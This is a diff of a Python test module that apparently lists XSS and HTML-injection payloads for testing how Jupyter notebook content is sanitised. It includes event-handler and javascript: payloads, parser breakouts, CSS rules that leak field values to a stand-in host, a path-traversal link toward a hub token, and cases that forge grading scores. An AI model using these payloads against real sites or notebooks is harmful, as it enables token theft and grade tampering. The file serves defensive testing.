@@ -74,18 +74,18 @@ HTML = {
     "svg foreignObject": "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>",
     "svg image": '<svg><image href="FAR"/></svg>',
     "math href": '<math><mtext href="javascript:JS">click</mtext></math>',
-    "math to style": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=JS&gt;\">",
-    "svg to style": "<svg></p><style><a id=\"</style><img src=1 onerror=JS>\">",
-    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=JS>\">",
-    "noembed": "<noembed><img title=\"</noembed><img src=x onerror=JS>\"></noembed>",
-    "xmp": "<xmp><p title=\"</xmp><svg/onload=JS>\"></xmp>",
+    "math to style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">',
+    "svg to style": '<svg></p><style><a id="</style><img src=1 onerror=JS>">',
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=JS>">',
+    "noembed": '<noembed><img title="</noembed><img src=x onerror=JS>"></noembed>',
+    "xmp": '<xmp><p title="</xmp><svg/onload=JS>"></xmp>',
     "template": "<template><img src=x onerror=JS></template><img src=x onerror=JS>",
-    "title": "<title><a title=\"</title><img src=x onerror=JS>\"></title>",
+    "title": '<title><a title="</title><img src=x onerror=JS>"></title>',
     "textarea": "</textarea><img src=x onerror=JS>",
-    "style then script": "<style><img title=\"</style><script>JS</script>\"></style>",
+    "style then script": '<style><img title="</style><script>JS</script>"></style>',
     "select": "<select><template><img src=x onerror=JS></template></select><svg onload=JS>",
-    "form in form": "<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea>"
-    "<img onerror=JS src=1>\"></form>",
+    "form in form": '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>'
+    '<img onerror=JS src=1>"></form>',
     "comment": "<!--><img src=x onerror=JS>-->",
     "conditional": "<![if<iframe/onload=JS>]><img src=x onerror=JS>",
     "cdata": "<![CDATA[<img src=x onerror=JS>]]><svg><![CDATA[><img src=x onerror=JS>]]></svg>",
@@ -126,7 +126,7 @@ HTML = {
     "link sheet": '<link rel=stylesheet href="FAR">',
     "link prefetch": '<link rel=prefetch href="FAR"><link rel=preload as=image href="FAR">',
     "style import": "<style>@import url(FAR);</style>",
-    "style attribute": "<p style=\"background:url(FAR)\">p</p>",
+    "style attribute": '<p style="background:url(FAR)">p</p>',
     "style reads fields": "<style>input[value^='5']{background:url(FAR)}</style>",
     "style covers the page": "<p style='position:fixed;inset:0;background:url(FAR)'>Sign in again</p>",
     # jupyterlab GHSA-9q39-rmj3-p4r2
@@ -134,11 +134,11 @@ HTML = {
     "<img name=getCookie><a id=MathJax href=FAR>click</a>",
     "clobber a mark": "<input class='score tabbable' id=oversight_check_point value=5>",
     # jupyterlab CVE-2026-42557: a cell's button runs the lab's commands
-    "command button": "<button class='full-credit' data-commandlinker-command=x data-toggle=modal data-target=HUB>b</button>",
+    "command button": "<button class='full-credit' data-commandlinker-command=x data-toggle=modal>b</button>",
     # bootstrap 3: data attributes that make a tooltip out of HTML (CVE-2018-14040 and its kin)
     "bootstrap tooltip": "<a data-toggle=tooltip data-html=true title='<img src=x onerror=JS>'>hover</a>",
     "bootstrap collapse": "<a data-toggle=collapse data-parent='<img src=x onerror=JS>' href='#x'>click</a>",
-    "widget script": '<script type="application/vnd.jupyter.widget-state+json">{"x":"</script><script>JS</script>"}</script>',
+    "widget script": '<script type="application/vnd.jupyter.widget-state+json">"</script><script>JS</script>"</script>',
     "importmap": '<script type=importmap>{"imports":{"x":"FAR"}}</script><script type=module>import "x"; JS</script>',
     "declarative shadow": "<div><template shadowrootmode=open><img src=x onerror=JS></template></div>",
 }
@@ -150,7 +150,7 @@ MARKDOWN = {
     "link, tab": "[click](<java\tscript:JS>)",
     "link, case": "[click](JaVaScRiPt:JS)",
     "link, vbscript and data": "[a](vbscript:JS) [b](data:text/html;base64,JS64)",
-    "link title": "[click](# \"\" onmouseover=JS x=\"'><img src=x onerror=JS>\")",
+    "link title": '[click](# "" onmouseover=JS x="\'><img src=x onerror=JS>")',
     "reference": "[click][r]\n\n[r]: javascript:JS '\"><img src=x onerror=JS>'",
     "autolink": "<javascript:JS> <FAR>",
     "picture": "![a](FAR) ![b](HUB) ![c](javascript:JS)",
@@ -162,11 +162,11 @@ MARKDOWN = {
     "mermaid": "```mermaid\ngraph TD; A[<img src=x onerror=JS>]; click A 'javascript:JS'\n```",
     "code span": "`</code><script>JS</script>`",
     "indented code": "    </code></pre><script>JS</script>",
-    "table": "| a |\n|:-:\" onmouseover=\"JS|\n| <img src=x onerror=JS> |\n\n|a|\n|:-:|\n|<script>JS</script>|",
+    "table": '| a |\n|:-:" onmouseover="JS|\n| <img src=x onerror=JS> |\n\n|a|\n|:-:|\n|<script>JS</script>|',
     "heading": "# <a id='x' onclick=JS>click</a> {#x onclick=JS}",
-    "footnote": '[^1]\n\n[^1]: <img src=x onerror=JS> [click](javascript:JS)',
+    "footnote": "[^1]\n\n[^1]: <img src=x onerror=JS> [click](javascript:JS)",
     "entities": "&lt;script&gt;JS&lt;/script&gt; &amp;lt;img src=x onerror=JS&amp;gt;",
-    "emoji and wide signs": "😀＜script＞JS＜/script＞ \u2028<img src=x onerror=JS> \ufeff<script>JS</script>",
+    "emoji and wide signs": "😀\uff1cscript\uff1eJS\uff1c/script\uff1e \u2028<img src=x onerror=JS> \ufeff<script>JS",
     "split by lines": "<img\nsrc=x\nonerror=JS\n>\n\n<scr\nipt>JS</scr\nipt>",
     "html block then Markdown": "<div>\n\n[click](javascript:JS)\n\n<script>\nJS\n</script>\n</div>",
     "strip_files_prefix": '<img src="files/x" onerror=JS> [click](files/../../hub/token)',
@@ -203,7 +203,7 @@ OUTPUTS: dict[str, dict[str, Any]] = {
     "json": {"application/json": {"</script><script>JS</script>": "<img src=x onerror=JS>"}},
     "pdf": {"application/pdf": base64.b64encode(b"%PDF-1.4 /JS (app.alert(1))").decode()},
     "latex picture": {"image/svg+xml": _SVG, "text/latex": "$x$"},  # the way of CVE-2025-53000
-    "media type with markup": {"text/<img src=x onerror=JS>": "x", "image/png\" onerror=\"JS": "x"},
+    "media type with markup": {"text/<img src=x onerror=JS>": "x", 'image/png" onerror="JS': "x"},
 }
 
 
@@ -216,7 +216,9 @@ def _in_markdown(text: str) -> Maker:
 def _answer(text: str) -> NotebookNode:
     """An oversight answer, as the course's own cell."""
     about = {"grade_id": "oversight_check_point", "grade": True, "solution": True, "points": 5, "schema_version": 3}
-    return new_markdown_cell(text, metadata={"nbgrader": {**about, "locked": False, "task": False, "cell_type": "markdown"}})
+    return new_markdown_cell(
+        text, metadata={"nbgrader": {**about, "locked": False, "task": False, "cell_type": "markdown"}}
+    )
 
 
 def _in_output(data: dict[str, Any]) -> Maker:
@@ -232,7 +234,7 @@ def _deep(value: Any, fill: Callable[[str], str]) -> Any:
 
 
 # -- what a notebook says of itself, and cells that are neither text nor code
-_BREAK = '"></script></style></textarea></title><img src=x onerror=JS>\'><script>JS</script>'
+_BREAK = "\"></script></style></textarea></title><img src=x onerror=JS>'><script>JS</script>"
 
 
 def _metadata(**about: Any) -> Maker:
@@ -265,7 +267,12 @@ def _outputs(*outputs: dict[str, Any]) -> Maker:
 
 _STATE = {
     "application/vnd.jupyter.widget-state+json": {
-        "state": {"x": {"model_name": "HTMLModel", "state": {"value": "<img src=x onerror=JS>", "d": "</script><script>JS</script>"}}}
+        "state": {
+            "x": {
+                "model_name": "HTMLModel",
+                "state": {"value": "<img src=x onerror=JS>", "d": "</script><script>JS</script>"},
+            }
+        }
     }
 }
 _DATA = {"output_type": "display_data", "data": {"text/plain": "x"}}
@@ -278,7 +285,9 @@ OTHER: dict[str, Maker] = {
     "widget state": _metadata(widgets=_STATE),  # 3, jupyter/nbconvert#1934
     "tags": _cell(metadata={"tags": [_BREAK]}),  # 4
     "svg_filename": _outputs({**_DATA, "svg_filename": _BREAK}),  # 7
-    "output filenames": _outputs({**_DATA, "metadata": {"filenames": {"image/svg+xml": _BREAK, "image/png": _BREAK}}}),  # 10
+    "output filenames": _outputs(
+        {**_DATA, "metadata": {"filenames": {"image/svg+xml": _BREAK, "image/png": _BREAK}}}
+    ),  # 10
     "picture metadata": _outputs({**_SHOWN_PICTURE, "metadata": {"image/png": {"width": _BREAK, "alt": _BREAK}}}),
     "raw cell": lambda fill: _notebook(  # 14
         cells=[new_raw_cell(fill(_BREAK), metadata={"raw_mimetype": "text/html", "format": "text/html"})]
@@ -287,7 +296,9 @@ OTHER: dict[str, Maker] = {
     "code mirror": _metadata(language_info={"codemirror_mode": {"name": _BREAK}, "mimetype": _BREAK}),
     "cell id": _cell(id=_BREAK),
     "cell metadata": _cell(metadata={"collapsed": _BREAK, "jupyter": {"source_hidden": _BREAK}, "class": _BREAK}),
-    "attachment name": _cell(source="![a](attachment:x) ![p](attachment:a.png)", attachments={_BREAK: {"image/png": "eA=="}}),
+    "attachment name": _cell(
+        source="![a](attachment:x) ![p](attachment:a.png)", attachments={_BREAK: {"image/png": "eA=="}}
+    ),
     "attachment svg": _cell(attachments={"a.png": {"image/svg+xml": base64.b64encode(_SVG.encode()).decode()}}),
     "attachment svg as png": _cell(attachments={"a.png": {"image/png": base64.b64encode(_SVG.encode()).decode()}}),
     "attachment html": _cell(attachments={"a.png": {"text/html": "JS64"}}),
@@ -300,13 +311,27 @@ OTHER: dict[str, Maker] = {
         cells=[new_code_cell(fill(_BREAK), metadata={"vscode": {"languageId": fill(_BREAK)}, "language": "html"})]
     ),
     "stream": _outputs({"output_type": "stream", "name": _BREAK, "text": _BREAK}),
-    "stream with colours": _outputs({"output_type": "stream", "name": "stdout", "text": "\x1b[31m" + _BREAK + "\x1b]8;;javascript:JS\x07click\x1b]8;;\x07"}),
-    "error": _outputs({"output_type": "error", "ename": _BREAK, "evalue": _BREAK, "traceback": ["\x1b[0;31m" + _BREAK]}),
+    "stream with colours": _outputs(
+        {
+            "output_type": "stream",
+            "name": "stdout",
+            "text": "\x1b[31m" + _BREAK + "\x1b]8;;javascript:JS\x07click\x1b]8;;\x07",
+        }
+    ),
+    "error": _outputs(
+        {"output_type": "error", "ename": _BREAK, "evalue": _BREAK, "traceback": ["\x1b[0;31m" + _BREAK]}
+    ),
     "unknown output": _outputs({"output_type": _BREAK, "data": {"text/html": _BREAK}}),
     "a score that is forged": _outputs(
-        {"output_type": "execute_result", "data": {"text/markdown": _BREAK + "[click](javascript:JS)"}, "metadata": {"mondaylab": _SCORE}}
+        {
+            "output_type": "execute_result",
+            "data": {"text/markdown": _BREAK + "[click](javascript:JS)"},
+            "metadata": {"mondaylab": _SCORE},
+        }
     ),
-    "text in lines": lambda fill: _notebook(cells=[{"cell_type": "markdown", "metadata": {}, "source": ["<scr", fill("ipt>JS</script>")]}]),
+    "text in lines": lambda fill: _notebook(
+        cells=[{"cell_type": "markdown", "metadata": {}, "source": ["<scr", fill("ipt>JS</script>")]}]
+    ),
 }
 
 PAYLOADS: tuple[Payload, ...] = (
